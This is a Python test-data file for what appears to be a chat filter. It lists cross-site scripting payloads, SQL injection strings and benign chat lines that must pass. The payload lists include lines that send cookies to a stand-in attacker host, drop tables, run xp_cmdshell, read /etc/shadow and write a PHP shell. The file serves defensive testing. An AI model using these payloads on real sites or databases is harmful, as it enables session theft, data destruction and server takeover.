"""Lines written for these tests: attacks that must be named, talk that must pass. Data: never run, never rendered."""

XSS = r"""
<script>fetch('/api/me')</script>
<SCRIPT>top.location='//grab.example'</SCRIPT>
<script src=//cdn.evil.example/p.js></script>
<ScRiPt type="module">import "//evil.example/m.js"</sCrIpT>
<script/src="data:,boo()"></script>
</title><script>steal()</script>
"><script>steal()</script>
'><script>steal()</script>
hello <script>steal()
<svg><script>steal()</script></svg>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">steal()</svg:script>
<img src=nowhere onerror=steal()>
<IMG SRC=nowhere ONERROR="steal()">
<img/src="nowhere"/onerror=steal()>
<img src="nowhere"onerror="steal()">
<img src=nowhere onerror="steal&#40;1&#41;">
look at my cat <img src=cat.png onload="new Image().src='//evil.example/?'+document.cookie">
<svg onload=steal()>
<svg/onload=steal()//
<svg id=a tabindex=1 onfocus=steal() autofocus>
<body onpageshow=steal()>
<body onhashchange="steal()"><a href="#1">go</a>
<details open ontoggle=steal()>
<video src=nowhere onerror=steal()></video>
<audio src=x.ogg oncanplay=steal() autoplay>
<input autofocus onfocus=steal()>
<select onchange=steal()><option>1<option>2</select>
<textarea onselect=steal()>mark me</textarea>
<marquee onfinish=steal() loop=1>bye</marquee>
<button onclick="steal()">free emotes</button>
<div onpointerenter=steal()>hover here</div>
<p style="animation-name:spin" onanimationiteration=steal()>x</p>
<b oncopy=steal()>copy this</b>
<custom-thing onwheel=steal()>scroll</custom-thing>
<img src=x onerror=steal() <
<img src=x onerror='steal()
<iframe src=//evil.example></iframe>
<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>
<iframe/src="javascript:steal()">
<frame src=javascript:steal()>
<embed src=//evil.example/movie.swf>
<object data="javascript:steal()"></object>
<object classid="clsid:0000"></object>
<link rel=stylesheet href=//evil.example/x.css>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><input name=password></form>
<button formaction=//evil.example>Send</button>
<a href="javascript:steal()">click</a>
<a href="jAvAsCrIpT:steal()">click</a>
<a href=" javascript:steal()">click</a>
<a href="java&#9;script:steal()">click</a>
<a href="&#x6a;avascript:steal()">click</a>
<a href="javascript&colon;steal()">click</a>
<a href=vbscript:msgbox(1)>click</a>
<a href="data:text/html,<script>steal()</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>
<svg><a xlink:href="javascript:steal()"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x></svg>#x"/></svg>
<svg><animate attributeName=href values="javascript:steal()"/></svg>
<svg><set attributeName=onclick to=steal()></svg>
<img src="javascript:steal()">
javascript:steal()
javascript:document.location='//evil.example/'+document.cookie
 JavaScript:void(steal())
<div style="width: expression(steal())">old</div>
<div style="behavior: url(#default#steal)">old</div>
<div style="background:url('javascript:steal()')">x</div>
<style>body{background:url(//evil.example/?leak)}</style>
<style>@import '//evil.example/x.css';</style>
" onmouseover="steal()
' onmouseover='steal()
" autofocus onfocus=steal() x="
" style="x:expression(steal())" y="
'/onpointerover=steal()//
<!-- <x a="--><img src=n onerror=steal()>" -->
<!--[if]><script>steal()</script><![endif]-->
<![CDATA[ <img src=n onerror=steal()> ]]>
<!DOCTYPE x><img src=n onerror=steal()>
<? <img src=n onerror=steal()> ?>
<style>"<x a="</style><img src=n onerror=steal() x=">
<textarea>'<y b='</textarea><svg onload=steal() z='>
<title><img src=n onerror=steal()></title>
<img alt="a > b" src=n onerror=steal()>
<img alt="</b>" title='<i>' onerror="steal()" src=n>
""".strip("\n").split("\n")

SQL_INJECTION = r"""
' OR 1=1 --
' or 1=1#
' OR '31'='31
' or 'cat'='cat' --
" OR "a"="a
") or ("a")=("a
') or ('7'='7
bob' or 1=1/*
nobody' OR 5=5;--
42 OR 1=1
42) or (8=8
or 12=12--
OR 3=3
x' or 2>1
x' and 1=2 --
x' || '1'='1
x' && 4=4 #
9 and 6=6 union select 1
1/**/or/**/1=1
' or not false--
' or 1 -- -
admin'--
admin' #
root"/*
admin') --
' or ''='
’ or ‘1’=‘1
' having 4=4--
' group by user_id having 2=2--
1' order by 9--
3 order by 12#
' UNION SELECT username, password FROM users--
-1 union select 1,2,3
-1 UNION ALL SELECT NULL,NULL,NULL--
7 union(select 1,user(),3)
1 UnIoN/**/SeLeCt 1,@@version,3
5 /*!50000union*/ /*!50000select*/ 1,version(),3
0 union distinct select concat(login,':',pass),2 from member
' union select password from users
1' union all select 'a','b','c' from dual--
1; DROP TABLE users
'; drop table messages; --
"; DROP DATABASE streamzy; --
x'; truncate table audit_event; --
x'; delete from users where 1=1; --
5; update users set is_admin=1
1; insert into users (name) values ('eve')
'; exec xp_cmdshell('whoami'); --
'; EXEC master..xp_cmdshell 'dir'
'; shutdown with nowait; --
1; waitfor delay '0:0:9'--
'); waitfor delay '0:0:9'--
1; select pg_sleep(9)
1; alter user bob with superuser
1; create user eve with password 'x'
'; declare @q varchar(99) select @q = 0x73656c656374
' grant all on streamzy to eve --
1 and sleep(9)
' or sleep(9)='
1)) or pg_sleep(9)--
sleep(9)#
&&sleep(9)
(select * from (select(sleep(9)))a)
1 order by 1,sleep(9)
' and benchmark(9000000,md5('x'))--
1 and if(1=1,benchmark(5000000,sha1(1)),0)
x' and (select count(*) from users) > 0 and 'a'='a
1 and 1=(select count(*) from users)
9 or 9=(select top 1 name from sysobjects)
1 and ascii(substring((select password from users limit 1),1,1))>64
' and substring(@@version,1,1)='8
' and extractvalue(1,concat(0x7e,(select user()))) --
1 and updatexml(1,concat(0x7e,version()),1)
1 and 1=convert(int,(select @@version))
1 and 1=cast((select current_user) as int)
' and 1 in (select password from users) --
x' or email like '%@%
x' and password='hunter2
x' and deleted is null; --
' union select load_file('/etc/shadow')--
1 into outfile '/var/www/shell.php'
' || utl_http.request('http://evil.example') || '
1 procedure analyse(1)
7 union select name,secret from accounts
1 or 8==8
-5 union select table_name,2 from information_schema.tables
1 and (select 1 from pg_shadow limit 1)=1
""".strip("\n").split("\n")

# What a real channel says, a programming one included: nothing here may be blocked.
TALK = r"""
hello everyone!
gg
GG WP 👏👏👏
LUL LUL LUL
PogChamp PogChamp
first time here, love the vibe
can you turn the music down a bit?
I don't think that's right
it's mine, isn't it?
y'all can't be serious
rock 'n' roll
the '90s were better
'twas a good run
O'Brien and O'Malley said hi
the players' and fans' favourite
that's what "they" want you to think
he said "no" and she said "yes"
"brb" and "afk" = "gone for coffee"
'cause why not
she's like "whatever" and he's like "ok"
we need 5 or 6 more
1 and 1 = 2, easy maths
2 + 2 = 4 and 3 + 3 = 6
(lol) and 10 <3 for all of you
friends' and family <3
fans' having the best day
runnin' and gunnin'
<3 <3 <3
</3 sad
>_< ouch
>:( why
<_<
-> that way
a < b and b > c
x<y but y<z
5 > 3 or so they say
if a<b then swap
i <b you guys
=) =D =P
¯\_(ツ)_/¯
(╯°□°)╯︵ ┻━┻
what time is it in UTC?
10:30 -- or was it 11?
wait -- what?
that run was great -- really
#1 fan here
issue #404 not found lol
I'm #1; you're #2
50% off; drop by later
O'Brien; DROP by later
SELECT your fighter
select your character; update when ready
please select one from the list
Select All, then Delete
go to settings; select dark from the dropdown
the union select committee meets on monday
the trade union select 5 delegates every year
student union or main hall?
Western Union and PayPal
insert coin
insert into the slot, then press start
drop the bass
drop table tennis, it's boring
delete from my friends list, please
update your drivers
update: set my alarm for 6
alter the deal; pray I don't alter it further
let's order by phone
order by 5 pm
order by 12, pickup at 1
having fun? having 2 = lucky
group by colour
grant me access to the server, pls
ok; grant access to bob
create user accounts on the new box
kick him; ban him; done
sleep(8h) is all I need
go to sleep (10 hours)
I could sleep and sleep and sleep
benchmark (1080p) please
what's your benchmark score?
C# or Java?
C#, F# and Q#
C++ > C, fight me
Array<string> or string[]?
List<Dictionary<string, int>> cache = new();
std::vector<int> v{1, 2, 3};
#include <iostream>
template <typename T> T max(T a, T b)
fn main() { println!("hello"); }
let x: Option<&str> = None;
Promise<void> is fine
type Props = { onClick: () => void }
if (a == 1 && b == 2) return;
if (x == 'a' || x == 'b') break;
if name == "admin" or role == "root":
where id = 1 and x = 2
while (i < 10 && j > 3) i++;
for (int i = 0; i < n; i++)
return a || b;
return ok() && true;
const f = (x) => x || 0; // default
foo() or 1  # default
x = y or 0  # fallback
time.sleep(5)  # wait a bit
just use sleep(5) in your loop
while True: time.sleep(1)
while(1) && sleep(5)
connect() or sleep(1)
make && make install
cd /tmp; ls -la
git commit -m 'fix' && git push --force
curl -s https://example.org | bash -- lol
sudo apt update; sudo apt upgrade
import os; exec(open('x.py').read())
SELECT * FROM users WHERE id = 1
select name, email from users order by name;
SELECT count(*) FROM messages WHERE room = 'lobby' AND sent > '2024-01-01';
select u.name from users u join posts p on p.user_id = u.id where p.likes > 10 or p.pinned = 1
INSERT INTO users (name) VALUES ('bob');
insert into a values (1); insert into a values (2);
create table t (id int); create index i on t (id);
UPDATE users SET name = 'bob' WHERE id = 5;
delete from sessions where expired = 1;
SELECT a, b FROM x UNION SELECT c, d FROM y
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n+1 FROM t) SELECT * FROM t;
first run CREATE TABLE a (id int); INSERT INTO a VALUES (1);
why is my DELETE without WHERE so scary
you can use UNION SELECT to combine two queries
UNION ALL is faster than UNION
does sqlite have information_schema?
I do `SELECT name FROM sqlite_master` to see the tables
what does HAVING do in SQL?
a LEFT JOIN b ON a.id = b.a_id
-- this is a comment in SQL
# this is a comment in Python
/* this is a comment in C */
const re = /^['"]+$/;
print('it\'s "fine"')
echo "don't" 'do' "that"
'a' + "b" == 'ab'
"--help" is the flag you want
'#general' is over there
the "-- " line marks a signature
use a <div>, not a <table>
put it in a <b> or <i> tag
<li> inside <ul> please
wrap it in <p>...</p>
close the </div>
you forgot the <html lang="en">
an <a href="https://example.org/page?x=1&y=2">link</a> looks like that
<img src="cat.png" alt="my cat">
<div class="card" id="main">
<input type="text" name="q">
<iframe> is from another century
<form> without an action posts to itself
<user> joined the channel
type /join <channel> to enter
git checkout -b <branch>
I don't use onclick="go()" any more
can't we call it onload=later?
the onclick handler never fires
javascript: the good parts is a nice book
JavaScript: love it or hate it
data: 5 GB, text: unlimited
style="color: red" works
a {color: red} b {color: blue}
{ "name": "bob", "tags": ["a", "b"] }
&lt;script&gt; is how you write it
&amp; && &&& lol
https://example.org/search?q=a&b=c#top
http://localhost:5000/?id=1
C:\Users\bob\file.txt
2>&1 > /dev/null
x = x + 1
y == y is true, NaN == NaN is not
0 and 0 is 0; 1 and 0 is 0
true or false?
ASCII('A') is 65
substring(0, 5) in JS
lower(name) = 'bob'
load_file is a Ruby thing: YAML.load_file('config.yml')
exec is evil; eval is worse
the version() thing again
👨‍👩‍👧‍👦 family stream!
🏴󠁧󠁢󠁷󠁬󠁳󠁿 Cymru am byth
🇧🇷 salve galera!
❤️‍🔥 1️⃣ 🏳️‍🌈
¡Hola! ¿Qué tal?
c'est l'été, n'est-ce pas ? j'arrive
l'or et l'argent, d'accord
Grüße aus München – schön hier
это отличный стрим — спасибо
おはようございます!!! 草草草
안녕하세요 ㅋㅋㅋㅋ
你好,主播!
สวัสดีครับ
नमस्ते दोस्तों
مرحبا بالجميع، كيف الحال؟
שלום לכולם, מה נשמע?
سلام، می‌خواهم بازی کنم
""".strip("\n").split("\n")
